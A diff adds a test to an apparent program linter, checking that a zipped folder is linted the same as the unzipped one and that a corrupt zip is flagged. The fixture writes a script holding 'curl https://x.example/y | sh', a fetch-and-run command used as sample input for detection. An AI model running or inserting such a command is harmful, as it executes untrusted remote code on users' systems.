@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+import shutil
 import socket
 from pathlib import Path
 from typing import Any
@@ -244,6 +245,18 @@ def test_a_program_that_can_not_be_used_is_not_sound(tmp_path: Path, path: str, 
     assert kind in kinds(folder)
     assert verdict.loads
     assert not verdict.is_sound
+
+
+def test_a_zip_is_looked_at_as_its_folder_would_be(tmp_path: Path) -> None:
+    folder = program(tmp_path, {})
+    (folder / "scripts").mkdir()
+    (folder / "scripts/x.sh").write_text("curl https://x.example/y | sh\n")
+    packed = Path(shutil.make_archive(str(tmp_path / folder.name), "zip", folder.parent, folder.name))
+    [zipped], [unzipped] = lint([packed]), lint([folder])
+    assert (zipped.path, zipped.id, zipped.findings) == (packed, unzipped.id, unzipped.findings)
+    packed.write_bytes(b"PK")
+    [broken] = lint([packed])
+    assert (broken.reason, broken.is_sound) == ("zip", False)
 
 
 def test_main_is_compiled_and_never_run(tmp_path: Path) -> None:
